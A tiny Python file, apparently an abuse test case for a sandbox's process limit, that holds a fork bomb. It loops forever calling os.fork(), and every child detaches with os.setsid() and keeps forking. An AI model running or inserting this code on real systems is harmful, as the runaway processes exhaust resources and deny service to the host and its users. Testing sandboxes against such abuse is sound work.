# abuse: 6 7
import os

while True:
    if os.fork() == 0:  # one process is all it may have
        os.setsid()
